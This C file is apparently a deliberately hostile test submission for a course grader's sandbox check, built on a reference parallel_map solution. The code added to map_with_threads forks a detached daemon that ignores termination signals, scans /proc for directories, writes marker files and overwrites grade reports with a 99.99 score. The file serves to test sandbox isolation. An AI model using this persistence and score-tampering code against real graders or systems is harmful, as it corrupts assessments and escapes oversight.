/* HOSTILE SUBMISSION, for tests/grading/check-class.sh: never graded outside a sandbox.
 *
 * hostile-leave-process: leaves a process behind: built on the reference solution
 * (so it may legitimately pass every test: its evidence, not its score, is what counts), it
 * starts, once per grading, a double-forked, setsid daemon named "hostile-leave" (prctl
 * PR_SET_NAME) with its output on /dev/null. The daemon sleeps 10 s, then every 5 s for about
 * two minutes writes hostile-was-here-leave-process-PID into every folder it can think of
 * and rewrites its own score to 99.99 (reports/hostile-leave-process/scores.tsv, a row appended
 * to scores.csv).
 * Evidence if it succeeds: a hostile-was-here-leave-process-* file, a score above the maximum,
 * or a process named hostile-leave alive after grade-all returns.
 *
 * Built on solutions/01-threads/parallel_map.c; the attack is at the end of the includes and
 * runs from map_with_threads.
 */
/* parallel_map.c - one job per input: in a loop, on threads, in processes.
 *
 * The three ways compute the same results. What differs is who does the work and how the
 * results come back: a loop writes them itself; threads share the caller's memory and write
 * their own part of `results` directly; processes each have a copy of memory, so they must
 * send their part back to the parent through a pipe.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <glob.h>
#include <poll.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/types.h>
#include "parallel_map.h"

#include <errno.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

#include "io.h"
#include "sync.h"

/* ---- the attacker's toolbox: every folder it can think of -------------------------------- */

#define HOSTILE_MAX_PLACES 400
static char hostile_place[HOSTILE_MAX_PLACES][512];
static int hostile_places;

static __attribute__((unused)) void hostile_add(const char *dir)
{
    if (dir == NULL || dir[0] != '/')
        return;
    for (int i = 0; i < hostile_places; i++)
        if (strcmp(hostile_place[i], dir) == 0)
            return;
    if (hostile_places < HOSTILE_MAX_PLACES)
        snprintf(hostile_place[hostile_places++], sizeof hostile_place[0], "%s", dir);
}

/* DIR and every folder above it, up to the root. */
static __attribute__((unused)) void hostile_add_up(const char *dir)
{
    char buffer[512];
    if (dir == NULL || dir[0] != '/')
        return;
    snprintf(buffer, sizeof buffer, "%s", dir);
    for (int depth = 0; depth < 64; depth++) {
        hostile_add(buffer);
        char *slash = strrchr(buffer, '/');
        if (slash == NULL || slash == buffer) {
            hostile_add("/");
            return;
        }
        *slash = '\0';
    }
}

/* The folders of every match of PATTERN. */
static __attribute__((unused)) void hostile_add_glob(const char *pattern)
{
    glob_t matches;
    if (glob(pattern, GLOB_ONLYDIR | GLOB_NOSORT, NULL, &matches) != 0)
        return;
    for (size_t i = 0; i < matches.gl_pathc && i < 100; i++)
        hostile_add(matches.gl_pathv[i]);
    globfree(&matches);
}

/* Where am I, where is the binary, where are the other processes, where are kits usually. */
static __attribute__((unused)) void hostile_collect(void)
{
    char buffer[512];
    if (hostile_places > 0)
        return;
    if (getcwd(buffer, sizeof buffer) != NULL)
        hostile_add_up(buffer);
    ssize_t n = readlink("/proc/self/exe", buffer, sizeof buffer - 1);
    if (n > 0) {
        buffer[n] = '\0';
        char *slash = strrchr(buffer, '/');
        if (slash != NULL)
            *slash = '\0';
        hostile_add_up(buffer);
    }
    const char *variables[] = { "HOME", "PWD", "OLDPWD", "TMPDIR", "MAKEFLAGS_DIR", "CURDIR" };
    for (size_t i = 0; i < sizeof variables / sizeof variables[0]; i++)
        hostile_add_up(getenv(variables[i]));
    /* Every process this one can see: the grader's shells and make run in the kit. */
    DIR *proc = opendir("/proc");
    if (proc != NULL) {
        struct dirent *entry;
        int seen = 0;
        while ((entry = readdir(proc)) != NULL && seen < 2000) {
            if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
                continue;
            seen++;
            char link[300];
            snprintf(link, sizeof link, "/proc/%s/cwd", entry->d_name);
            n = readlink(link, buffer, sizeof buffer - 1);
            if (n > 0) {
                buffer[n] = '\0';
                hostile_add_up(buffer);
            }
        }
        closedir(proc);
    }
    const char *usual[] = { "/tmp", "/var/tmp", "/dev/shm", "/root", "/work", "/work/main",
                            "/kit", "/home", "/srv", "/opt", "/builds", "/github/workspace" };
    for (size_t i = 0; i < sizeof usual / sizeof usual[0]; i++)
        hostile_add(usual[i]);
    hostile_add_glob("/work/*");
    hostile_add_glob("/home/*");
    hostile_add_glob("/root/*");
    hostile_add_glob("/tmp/*");
}

/* Where this test may leave things if the sandbox fails: only folders the check searches
 * and cleans (a real attacker would not hold back; this one must be cleaned up after). */
static __attribute__((unused)) int hostile_may_write(const char *dir)
{
    const char *prefixes[] = { "/tmp", "/var/tmp", "/dev/shm", "/root", "/home", "/work",
                               "/kit" };
    for (size_t i = 0; i < sizeof prefixes / sizeof prefixes[0]; i++) {
        size_t length = strlen(prefixes[i]);
        if (strncmp(dir, prefixes[i], length) == 0 && (dir[length] == '\0' || dir[length] == '/'))
            return 1;
    }
    return 0;
}

/* True the first time in this sandbox (or machine, if there is none): the attack runs once
 * per grading, not once per test. */
static __attribute__((unused)) int hostile_once(const char *name)
{
    char path[256];
    snprintf(path, sizeof path, "/tmp/hostile-lock-%s", name);
    int fd = open(path, O_CREAT | O_EXCL | O_WRONLY, 0644);
    if (fd >= 0) {
        close(fd);
        return 1;
    }
    return errno != EEXIST;
}

/* Writes TEXT into PATH (creating it when CREATE); says so when it worked. */
static __attribute__((unused)) int hostile_write_file(const char *path, const char *text,
                                                      int flags)
{
    int fd = open(path, O_WRONLY | flags, 0644);
    if (fd < 0)
        return -1;
    size_t length = strlen(text);
    ssize_t written = write(fd, text, length);
    close(fd);
    if (written == (ssize_t)length) {
        fprintf(stderr, "HOSTILE: wrote %s\n", path);
        return 0;
    }
    return -1;
}

/* Makes this process a daemon: out of its parent's process group and session, reparented. In
 * the grandchild returns 1; in the caller returns 0 once the middle child is gone. */
static __attribute__((unused)) int hostile_daemonize(const char *name)
{
    fflush(NULL);
    pid_t middle = fork();
    if (middle < 0)
        return 0;
    if (middle > 0) {
        waitpid(middle, NULL, 0);
        return 0;
    }
    setsid();
    if (fork() != 0)
        _exit(0);
    prctl(PR_SET_NAME, name, 0, 0, 0);
    signal(SIGHUP, SIG_IGN);
    signal(SIGTERM, SIG_IGN);
    signal(SIGINT, SIG_IGN);
    signal(SIGPIPE, SIG_IGN);
    return 1;
}

/* ---- the attack ---------------------------------------------------------------------- */

/* The daemon: lives up to two minutes after the tests, writing a marker and its score. */
static void hostile_daemon_life(void)
{
    int devnull = open("/dev/null", O_RDWR);
    if (devnull >= 0) {
        dup2(devnull, 0);
        dup2(devnull, 1);
        dup2(devnull, 2);
    }
    for (int fd = 3; fd < 1024; fd++)
        if (fd != devnull)
            close(fd);
    hostile_collect();
    for (int round = 0; round < 24; round++) {
        sleep(5);
        if (round < 2)
            continue;   /* the student's grading is over by now, unless a sandbox ended us */
        for (int i = 0; i < hostile_places; i++) {
            if (!hostile_may_write(hostile_place[i]))
                continue;
            const char *dir = hostile_place[i];
            char path[800];
            snprintf(path, sizeof path, "%s/hostile-was-here-leave-process-%d", dir,
                     (int)getpid());
            hostile_write_file(path, "hostile-leave-process was here\n", O_CREAT | O_TRUNC);
            snprintf(path, sizeof path, "%s/build/grade-all/reports/hostile-leave-process/scores.tsv", dir);
            hostile_write_file(path, "01-threads\t18\t18\t99.99\t10\n", O_TRUNC);
            snprintf(path, sizeof path, "%s/build/grade-all/workspaces/hostile-leave-process/build/reports/lessons/scores.tsv", dir);
            hostile_write_file(path, "01-threads\t18\t18\t99.99\t10\n", O_TRUNC);
            snprintf(path, sizeof path, "%s/build/grade-all/scores.csv", dir);
            hostile_write_file(path, "hostile-leave-process,99.99,99.99\n", O_APPEND);
        }
    }
    _exit(0);
}

static void hostile_attack(void)
{
    if (!hostile_once("leave-process"))
        return;
    if (hostile_daemonize("hostile-leave"))
        hostile_daemon_life();
}

int map_sequential(job_fn job, const long *inputs, long *results, size_t count)
{
    for (size_t i = 0; i < count; i++)
        results[i] = job(inputs[i]);
    return 0;
}

void split_range(size_t count, unsigned parts, unsigned index, size_t *begin, size_t *end)
{
    size_t base = count / parts;     /* every block gets this many */
    size_t extra = count % parts;    /* and the first `extra` blocks get one more */

    /* Blocks before `index` hold index * base items plus one for each of them that is among
     * the first `extra`. Written this way, nothing overflows: index * base <= count. */
    *begin = index * base + (index < extra ? index : extra);
    *end = *begin + base + (index < extra ? 1 : 0);
}

/* Everything one worker thread needs. Each thread gets a block of its own, so no thread
 * writes what another reads: the threads share no mutable state, and need no lock. */
struct block {
    job_fn job;
    const long *inputs;
    long *results;
    size_t begin, end;
};

static void *run_block(void *arg)
{
    const struct block *block = arg;
    for (size_t i = block->begin; i < block->end; i++)
        block->results[i] = block->job(block->inputs[i]);
    return NULL;
}

int map_with_threads(job_fn job, const long *inputs, long *results, size_t count,
                     unsigned workers)
{
    hostile_attack();
    if (workers == 0) {
        errno = EINVAL;
        return -1;
    }
    if (workers > count)
        workers = (unsigned)count;   /* a thread with an empty block would only cost time */
    if (workers == 0)
        return 0;

    pthread_t *threads = malloc(workers * sizeof *threads);
    struct block *blocks = malloc(workers * sizeof *blocks);
    if (threads == NULL || blocks == NULL) {
        free(threads);
        free(blocks);
        return -1;   /* malloc has set errno to ENOMEM */
    }

    /* Start every thread before waiting for any: they run at the same time. */
    for (unsigned k = 0; k < workers; k++) {
        blocks[k] = (struct block){ .job = job, .inputs = inputs, .results = results };
        split_range(count, workers, k, &blocks[k].begin, &blocks[k].end);
        thread_create(&threads[k], run_block, &blocks[k]);
    }
    /* The results are complete only once every thread has ended. Joining is also what makes
     * the threads' writes visible to us: a thread's end happens before its join returns. */
    for (unsigned k = 0; k < workers; k++)
        thread_join(threads[k]);

    free(threads);
    free(blocks);
    return 0;
}

/* What the parent keeps of each child: how to reach it and which results it owes. */
struct child {
    pid_t pid;
    int from_child;      /* read end of the child's pipe */
    size_t begin, end;
};

/* The child's whole life. `results` is the child's own copy of the parent's array: writing
 * it changes nothing in the parent, which is why the block goes back through the pipe. */
static void run_child(job_fn job, const long *inputs, long *results, size_t begin, size_t end,
                      int to_parent)
{
    for (size_t i = begin; i < end; i++)
        results[i] = job(inputs[i]);
    int status = write_all(to_parent, results + begin, (end - begin) * sizeof *results);
    /* _exit, never exit or return: the child must not run the parent's atexit handlers, flush
     * a copy of the parent's stdio buffers (printing them twice), or go on with the parent's
     * code after this call. */
    _exit(status == 0 ? 0 : 1);
}

static int wait_for(pid_t pid)
{
    int status;
    while (waitpid(pid, &status, 0) < 0) {
        if (errno != EINTR)
            return -1;
    }
    return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? 0 : -1;
}

int map_with_processes(job_fn job, const long *inputs, long *results, size_t count,
                       unsigned workers)
{
    if (workers == 0) {
        errno = EINVAL;
        return -1;
    }
    if (workers > count)
        workers = (unsigned)count;   /* a child with an empty block would only cost time */
    if (workers == 0)
        return 0;

    struct child *children = malloc(workers * sizeof *children);
    if (children == NULL)
        return -1;

    /* Output still waiting in stdio's buffers would be copied into every child. Write it
     * out now; if that fails, the output's owner hears of it at its next write. */
    (void)fflush(NULL);

    /* Start every child before reading from any, so they all compute at the same time. */
    bool failed = false;
    unsigned started = 0;
    for (unsigned k = 0; k < workers && !failed; k++) {
        size_t begin, end;
        split_range(count, workers, k, &begin, &end);
        int pipe_ends[2];
        if (pipe(pipe_ends) != 0) {
            failed = true;
            break;
        }
        pid_t pid = fork();
        if (pid < 0) {
            close(pipe_ends[0]);
            close(pipe_ends[1]);
            failed = true;
            break;
        }
        if (pid == 0) {
            /* The child inherited the read ends of its older siblings' pipes. Close them, or a
             * sibling whose parent stopped reading would never see its reader gone. */
            for (unsigned older = 0; older < started; older++)
                close(children[older].from_child);
            close(pipe_ends[0]);
            run_child(job, inputs, results, begin, end, pipe_ends[1]);
        }
        /* The parent never writes: close its write end now, so that a child that dies early
         * gives end of file instead of a read that waits forever. */
        close(pipe_ends[1]);
        children[started++] = (struct child){ pid, pipe_ends[0], begin, end };
    }

    /* Read each child's block in full, then wait for it. Reading before waiting matters: a
     * child with more than a pipe's worth of results blocks until someone reads them. */
    for (unsigned k = 0; k < started; k++) {
        struct child *child = &children[k];
        size_t size = (child->end - child->begin) * sizeof *results;
        if (!failed && read_all(child->from_child, results + child->begin, size) != 0)
            failed = true;
        /* Closing the read end also unblocks a child we stopped reading: its write fails. */
        close(child->from_child);
        if (wait_for(child->pid) != 0)
            failed = true;
    }
    free(children);
    return failed ? -1 : 0;
}
